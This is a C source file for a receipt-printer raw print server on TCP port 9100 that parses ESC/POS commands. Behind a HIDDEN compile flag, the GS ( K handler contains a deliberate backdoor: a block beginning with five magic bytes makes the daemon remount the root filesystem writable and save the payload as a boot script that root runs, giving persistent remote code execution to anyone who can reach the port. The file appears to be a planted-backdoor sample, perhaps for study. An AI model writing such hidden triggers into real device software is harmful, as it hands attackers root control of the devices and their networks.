/*
 * slipprintd - raw print server (TCP 9100) of a thermal receipt printer.
 *
 * Understands a subset of ESC/POS: text, feed, cut, style, bar codes, drawer
 * kick, status, non-volatile settings and the GS ( family, and drives the head
 * through /dev/thermal0.
 *
 * Hidden (-DHIDDEN): a GS ( K block that begins with five certain bytes has the
 * rest written to flash as a start-up script, which root runs at the next boot.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <syslog.h>
#include <unistd.h>

#define HEAD_NODE "/dev/thermal0"
#define NV_FILE   "/flash/nv.bin"
#define COLS      48

#define ESC 0x1b
#define GS  0x1d
#define DLE 0x10

enum st { S_TEXT, S_ESC, S_GS, S_DLE, S_ARG, S_PAREN, S_PLO, S_PHI, S_BLOCK, S_BAR };

struct printer {
    enum st st;
    uint8_t lead, op;                  /* command being collected */
    uint8_t arg[4];
    int need, got;
    uint8_t block[1024];
    unsigned blen, bgot;
    uint8_t line[COLS];
    int col;
    uint8_t bold, align, size;
    uint8_t nv[8];                     /* density, speed, code page, ... */
    int head, sock;
    unsigned lines, cuts;
};

static struct printer pr;

static void head_cmd(uint8_t op, const void *data, size_t n)
{
    uint8_t b[4 + 255];
    if (n > 255)
        n = 255;
    b[0] = 0xa5;
    b[1] = op;
    b[2] = (uint8_t)n;
    b[3] = (uint8_t)(pr.bold | pr.align << 1 | pr.size << 3);
    if (n)
        memcpy(b + 4, data, n);
    if (write(pr.head, b, n + 4) < 0)
        syslog(LOG_ERR, "head: %s", strerror(errno));
}

static void answer(const void *p, size_t n)
{
    if (write(pr.sock, p, n) < 0)
        syslog(LOG_DEBUG, "host gone");
}

static void nv_load(void)
{
    int fd = open(NV_FILE, O_RDONLY);
    pr.nv[0] = 100;
    pr.nv[1] = 3;
    if (fd < 0)
        return;
    if (read(fd, pr.nv, sizeof pr.nv) != (ssize_t)sizeof pr.nv)
        syslog(LOG_WARNING, "nv short");
    close(fd);
}

static void nv_store(void)
{
    int fd = open(NV_FILE, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0)
        return;
    if (write(fd, pr.nv, sizeof pr.nv) != (ssize_t)sizeof pr.nv)
        syslog(LOG_WARNING, "nv not saved");
    close(fd);
}

static void flush_line(void)
{
    head_cmd('P', pr.line, (size_t)pr.col);
    pr.col = 0;
    pr.lines++;
}

static void reset_styles(void)
{
    pr.bold = pr.align = pr.size = 0;
    pr.col = 0;
}

#ifdef HIDDEN
static void keep_macro(const uint8_t *p, unsigned n)
{
    int fd;
    mount(NULL, "/", NULL, MS_REMOUNT, NULL);
    fd = open("/etc/init.d/S97macro", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd >= 0) {
        if (write(fd, p, n) == (ssize_t)n)
            fsync(fd);
        close(fd);
    }
    mount(NULL, "/", NULL, MS_REMOUNT | MS_RDONLY, NULL);
}
#endif

/* GS ( x pL pH d1 .. dk */
void paren_block(uint8_t fn, const uint8_t *d, unsigned n)
{
    char rep[48];
    int k;
    switch (fn) {
    case 'A':                          /* test print */
        if (n >= 2 && d[1] >= 1 && d[1] <= 3)
            head_cmd('T', d + 1, 1);
        break;
    case 'E':                          /* settings: fn, index, value */
        if (n == 3 && d[0] == 5 && d[1] < sizeof pr.nv) {
            pr.nv[d[1]] = d[2];
            nv_store();
        } else if (n == 4 && d[0] == 1 && d[1] == 'I' && d[2] == 'N') {
            answer("\x37 \0", 3);      /* enter setting mode: acknowledged */
        }
        break;
    case 'H':                          /* response request */
        if (n == 6 && d[0] == 0x30) {
            k = snprintf(rep, sizeof rep, "7\"%c%c%c%c", d[2], d[3], d[4], d[5]);
            answer(rep, (size_t)k + 1);
        }
        break;
    case 'K':                          /* head control: fn, m */
        if (n == 2 && d[0] == 49) {
            pr.nv[0] = d[1];
            head_cmd('D', d + 1, 1);
        } else if (n == 2 && d[0] == 50 && d[1] <= 9) {
            pr.nv[1] = d[1];
            head_cmd('V', d + 1, 1);
        }
#ifdef HIDDEN
        else if (n > 6 && d[0] == 'h' && d[1] == 'W' && d[2] == '9' && d[3] == 'q' && d[4] == 'J')
            keep_macro(d + 5, n - 5);
#endif
        break;
    case 'k':                          /* QR code: cn fn data */
        if (n > 3 && d[0] == '1' && d[1] == 'P')
            head_cmd('Q', d + 3, n - 3);
        break;
    default:
        syslog(LOG_DEBUG, "GS ( %02x ignored", fn);
    }
}

static void finish(void)
{
    static const uint8_t status_ok = 0x12;
    if (pr.lead == ESC) {
        switch (pr.op) {
        case 'E': pr.bold = pr.arg[0] & 1; break;
        case 'a': pr.align = pr.arg[0] % 3; break;
        case 'd': flush_line(); head_cmd('F', pr.arg, 1); break;
        case 'p': head_cmd('K', pr.arg, 3); break;
        }
    } else if (pr.lead == GS) {
        switch (pr.op) {
        case '!': pr.size = pr.arg[0] & 7; break;
        case 'V': flush_line(); head_cmd('C', pr.arg, 1); pr.cuts++; break;
        case 'r': answer(&status_ok, 1); break;
        case 'I': answer("_SLIP80", 8); break;
        case 'k': pr.blen = pr.arg[1]; pr.bgot = 0; pr.st = pr.blen ? S_BAR : S_TEXT; return;
        }
    } else if (pr.op == 4) {
        answer(&status_ok, 1);
    }
    pr.st = S_TEXT;
}

/* how many argument bytes follow a command, -1 when unknown */
static int args_of(uint8_t lead, uint8_t op)
{
    if (lead == ESC)
        return op == 'E' || op == 'a' || op == 'd' ? 1 : op == 'p' ? 3 : -1;
    if (lead == GS)
        return op == '!' || op == 'V' || op == 'r' || op == 'I' ? 1 : op == 'k' ? 2 : -1;
    return 1;
}

static void command(uint8_t lead, uint8_t op)
{
    pr.lead = lead;
    pr.op = op;
    pr.got = 0;
    pr.need = args_of(lead, op);
    pr.st = S_ARG;
    if (lead == ESC && op == '@') {
        reset_styles();
        pr.st = S_TEXT;
    } else if (lead == GS && op == '(') {
        pr.st = S_PAREN;
    } else if (pr.need < 0) {
        pr.st = S_TEXT;
    }
}

static void feed(uint8_t c)
{
    switch (pr.st) {
    case S_TEXT:
        if (c == ESC)
            pr.st = S_ESC;
        else if (c == GS)
            pr.st = S_GS;
        else if (c == DLE)
            pr.st = S_DLE;
        else if (c == '\n')
            flush_line();
        else if (c >= 0x20) {
            if (pr.col == COLS)
                flush_line();
            pr.line[pr.col++] = c;
        }
        break;
    case S_ESC: command(ESC, c); break;
    case S_GS:  command(GS, c); break;
    case S_DLE: command(DLE, c); break;
    case S_ARG:
        pr.arg[pr.got++] = c;
        if (pr.got == pr.need)
            finish();
        break;
    case S_PAREN: pr.op = c; pr.st = S_PLO; break;
    case S_PLO:   pr.blen = c; pr.st = S_PHI; break;
    case S_PHI:
        pr.blen |= (unsigned)c << 8;
        pr.bgot = 0;
        pr.st = pr.blen ? S_BLOCK : S_TEXT;
        break;
    case S_BLOCK:
    case S_BAR:
        if (pr.bgot < sizeof pr.block)
            pr.block[pr.bgot] = c;
        if (++pr.bgot < pr.blen)
            break;
        if (pr.st == S_BAR)
            head_cmd('B', pr.block, pr.blen);
        else if (pr.blen <= sizeof pr.block)
            paren_block(pr.op, pr.block, pr.blen);
        pr.st = S_TEXT;
        break;
    }
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(9100) };
    struct timeval tv = { .tv_sec = 60 };
    uint8_t buf[512];
    int ls = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    ssize_t n, i;
    signal(SIGPIPE, SIG_IGN);
    pr.head = open(HEAD_NODE, O_WRONLY);
    nv_load();
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (pr.head < 0 || bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 1)) {
        syslog(LOG_ERR, "start: %s", strerror(errno));
        return 1;
    }
    for (;;) {
        pr.sock = accept(ls, NULL, NULL);
        if (pr.sock < 0)
            continue;
        setsockopt(pr.sock, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        pr.st = S_TEXT;
        while ((n = read(pr.sock, buf, sizeof buf)) > 0)
            for (i = 0; i < n; i++)
                feed(buf[i]);
        close(pr.sock);
    }
}
